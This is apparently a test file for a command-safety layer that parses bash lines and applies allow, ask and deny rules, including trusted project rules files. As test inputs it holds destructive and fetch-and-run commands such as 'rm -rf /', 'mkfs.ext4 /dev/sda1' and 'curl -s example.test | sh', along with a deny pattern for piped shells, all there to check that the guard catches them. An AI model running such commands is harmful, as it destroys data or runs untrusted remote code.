/**
 * SPEC §22: the bash parser (every simple command of a line), the user's rules and the
 * line's decision (rules, then §6), and a project's rules file read only while trusted.
 * Pure functions, table-driven.
 */
import { afterAll, describe, expect, test } from "bun:test";
import { mkdtempSync, realpathSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { isPlainLine, parserReady } from "../../src/safety/parser/bash-parser.ts";
import { readLine } from "../../src/safety/parser/command-line.ts";
import { decideLine } from "../../src/safety/rules/decide.ts";
import { projectRules, PROJECT_RULES_FILE, trustProject } from "../../src/safety/rules/project-rules.ts";
import { compileRules, type RuleConfig, RuleSchema } from "../../src/safety/rules/rules.ts";

await parserReady();

const commandsOf = (line: string) => readLine(line).commands.map((c) => c.words.map((w) => w.value ?? w.text).join(" "));

describe("the parser finds every simple command of a line", () => {
  test.each([
    ["a && b || c; d & e | f", ["a", "b", "c", "d", "e", "f"]],
    ["(cd x && git push)", ["cd x", "git push"]],
    ["echo $(git push)", ["echo $(git push)", "git push"]],
    ["echo `rm x`", ["echo `rm x`", "rm x"]],
    ['echo "in quotes $(rm y)"', ['echo "in quotes $(rm y)"', "rm y"]],
    ["bash -c 'git push; ls'", ["bash -c git push; ls", "git push", "ls"]],
    ["sh -c \"bash -c 'rm z'\"", ["sh -c bash -c 'rm z'", "bash -c rm z", "rm z"]],
    ["eval 'rm a' 'b'", ["eval rm a b", "rm a b"]],
    ["bash <<'EOF'\nrm -rf build\nEOF", ["bash", "rm -rf build"]],
    ["sh <<< 'kill 1'", ["sh", "kill 1"]],
    ["if true; then rm x; fi", ["true", "rm x"]],
    ["for f in *; do rm \"$f\"; done", ["rm \"$f\""]],
    ["x=$(rm w)", ["rm w"]],
    ["echo 'rm -rf /' \"git push\"", ["echo rm -rf / git push"]],
    ["\\rm 'a b'", ["rm a b"]],
    // A read-write redirection, which the grammar lacks, is read (not asked about as unparsable).
    ["(exec 3<>/dev/tcp/127.0.0.1/80) && echo ok", ["exec", "echo ok"]],
  ])("%p", (line, expected) => {
    expect(commandsOf(line)).toEqual(expected);
  });

  // A line of plain words is split without the grammar; a trailing `;` sends the same line
  // through the parser, which must find the same words.
  test.each(["npm test", "  rm -rf /  ", "FOO=1 BAR=x=y rm a", "git -C repo push --force origin +main", "kill -0 1234", "timeout 5 nice -n 10 make", "mkfs.ext4 /dev/sda1", "chmod 777 /etc"])(
    "plain words split like the parser reads them: %p",
    (line) => {
      expect(isPlainLine(line)).toBe(true);
      expect(commandsOf(line)).toEqual(commandsOf(line + ";"));
    },
  );
  test.each(["echo 'x'", "ls ~", "ls *.ts", "a#b", "if true", "time make", "a\nb", "x ! y", "{ a; }", "echo $HOME"])("not plain words, the parser reads it: %p", (line) => {
    expect(isPlainLine(line)).toBe(false);
  });

  test.each([
    ['eval "$x"', "only known when it runs"],
    ['bash -c "$(curl -s example.test)"', "only known when it runs"],
    ["curl -s example.test | sh", "only known when it runs"],
    ['$EDITOR notes.txt', "command word is only known"],
    ['echo "unterminated', "not valid bash"],
  ])("cannot be known: %p", (line, why) => {
    expect(readLine(line).unknown.map((u) => u.why).join(" ")).toContain(why);
  });
});

const rules = (...r: RuleConfig[]) => compileRules(r.map((x) => RuleSchema.parse(x)), "test");
const DENY_PUSH = rules({ prefix: ["git", "push"], decision: "deny", reason: "pushes go through CI" });

describe("rules, then §6: the strictest of the line", () => {
  const cases: [string, ReturnType<typeof rules>, string, "allow" | "ask" | "deny"][] = [
    ["a deny rule blocks git push", DENY_PUSH, "git push", "deny"],
    ["… after &&", DENY_PUSH, "make && git push origin main", "deny"],
    ["… in a subshell", DENY_PUSH, "(git push)", "deny"],
    ["… in $(…)", DENY_PUSH, "echo $(git push)", "deny"],
    ["… in bash -c", DENY_PUSH, "bash -c 'git push'", "deny"],
    ["… behind a wrapper", DENY_PUSH, "env FOO=1 timeout 5 git push", "deny"],
    ["… fed to a shell by a here-document", DENY_PUSH, "bash <<'EOF'\ngit push\nEOF", "deny"],
    ["quoted text is data", DENY_PUSH, "echo 'git push'", "allow"],
    ["other git commands are untouched", DENY_PUSH, "git status", "allow"],
    ["§6 still asks about what no rule names", DENY_PUSH, "rm x", "ask"],
    ["an allow rule waives the caution it names", rules({ prefix: ["rm", "-rf", "node_modules"], decision: "allow" }), "rm -rf node_modules", "allow"],
    ["… but not another rm", rules({ prefix: ["rm", "-rf", "node_modules"], decision: "allow" }), "rm -rf src", "ask"],
    ["… nor one in the same line", rules({ prefix: ["rm", "-rf", "node_modules"], decision: "allow" }), "rm -rf node_modules && rm -rf src", "ask"],
    ["a rule of * does not name a caution command", rules({ prefix: ["*"], decision: "allow" }), "rm x", "ask"],
    ["§6 blocked cannot be allowed", rules({ prefix: ["rm"], decision: "allow" }), "rm -rf /", "deny"],
    ["… nor through a pattern", rules({ pattern: "^rm ", decision: "allow" }), "rm -rf ~", "deny"],
    ["an ask rule asks", rules({ prefix: ["npm", "install"], decision: "ask" }), "npm install left-pad", "ask"],
    ["a pattern sees one simple command, not the pipeline (the piped sh still asks)", rules({ pattern: "^curl .*\\| ?sh", decision: "deny" }), "curl x | sh", "ask"],
    ["a pattern rule over the command's words", rules({ pattern: "^terraform (apply|destroy)", decision: "deny" }), "cd infra && terraform destroy -auto-approve", "deny"],
    ["* stands for one word", rules({ prefix: ["docker", "*", "prune"], decision: "deny" }), "docker system prune -a", "deny"],
    ["* needs its word", rules({ prefix: ["docker", "*", "prune"], decision: "deny" }), "docker prune", "allow"],
    ["the strictest rule wins", rules({ prefix: ["git"], decision: "allow" }, { prefix: ["git", "push"], decision: "ask" }), "git push", "ask"],
    ["eval of a variable asks", [], 'eval "$x"', "ask"],
    ["…whatever the rules", rules({ prefix: ["eval"], decision: "allow" }), 'eval "$x"', "ask"],
    ["a rule with cwd applies there", rules({ prefix: ["make"], decision: "deny", cwd: "/srv/prod" }), "make", "allow"],
    ["a rule for another host does not apply", rules({ prefix: ["make"], decision: "deny", host: "prod" }), "make", "allow"],
  ];
  test.each(cases)("%s: %p", (_, r, line, decision) => {
    expect(decideLine(line, r, { cwd: "/home/me/project" }).decision).toBe(decision);
  });

  test("a rule with cwd applies in that folder and below", () => {
    const r = rules({ prefix: ["make"], decision: "deny", cwd: "/srv/prod" });
    expect(decideLine("make", r, { cwd: "/srv/prod/app" }).decision).toBe("deny");
    expect(decideLine("make", r, { cwd: "/srv/production" }).decision).toBe("allow");
  });

  test("a rule with host applies to calls on that host", () => {
    expect(decideLine("make", rules({ prefix: ["make"], decision: "deny", host: "prod" }), { host: "prod" }).decision).toBe("deny");
  });

  test("the deciding item names the rule and carries its reason", () => {
    const d = decideLine("ls; git push --tags", DENY_PUSH);
    expect(d.deciding).toMatchObject({ command: "git push --tags", decision: "deny", what: "pushes go through CI" });
    expect(d.deciding!.by).toContain("prefix git push");
  });

  test("a rule needs exactly one of prefix and pattern; a pattern must compile", () => {
    expect(RuleSchema.safeParse({ decision: "deny" }).success).toBe(false);
    expect(RuleSchema.safeParse({ prefix: ["a"], pattern: "a", decision: "deny" }).success).toBe(false);
    expect(RuleSchema.safeParse({ pattern: "(", decision: "deny" }).success).toBe(false);
    expect(RuleSchema.safeParse({ prefix: ["a"], decision: "maybe" }).success).toBe(false);
  });

  test("a pattern rule runs on the linear-time matcher: a backtracking pattern does not stall", () => {
    const r = rules({ pattern: "^(a|a)*b$", decision: "deny" });
    const start = performance.now();
    expect(decideLine("echo " + "a".repeat(5000), r).decision).toBe("allow");
    expect(performance.now() - start).toBeLessThan(500);
  });
});

describe("a project's rules file is read only while trusted", () => {
  const dir = realpathSync(mkdtempSync(join(tmpdir(), "as-rules-project-")));
  const config = realpathSync(mkdtempSync(join(tmpdir(), "as-rules-config-")));
  const env = { HOME: config, XDG_CONFIG_HOME: config };
  afterAll(() => {
    rmSync(dir, { recursive: true, force: true });
    rmSync(config, { recursive: true, force: true });
  });
  const file = join(dir, PROJECT_RULES_FILE);
  const deny = '[[rules]]\nprefix = ["git", "push"]\ndecision = "deny"\n';

  test("untrusted: ignored; trusted: in force; changed: ignored again; trusted again: in force", () => {
    writeFileSync(file, deny);
    expect(projectRules(dir, env)).toMatchObject({ status: "untrusted", rules: [] });
    trustProject(dir, env);
    expect(projectRules(dir, env).status).toBe("trusted");
    expect(decideLine("git push", projectRules(dir, env).rules).decision).toBe("deny");
    // A command rewrites the file to allow itself something: ignored.
    writeFileSync(file, '[[rules]]\nprefix = ["rm"]\ndecision = "allow"\n');
    expect(projectRules(dir, env)).toMatchObject({ status: "changed", rules: [] });
    trustProject(dir, env);
    expect(projectRules(dir, env).rules).toHaveLength(1);
    expect(projectRules(dir, env).rules[0]!.prefix).toEqual(["rm"]);
  });

  test("trusting an invalid file is refused, naming the key", () => {
    writeFileSync(file, '[[rules]]\nprefix = ["x"]\ndecision = "perhaps"\n');
    expect(() => trustProject(dir, env)).toThrow(/rules\.0\.decision/);
  });
});
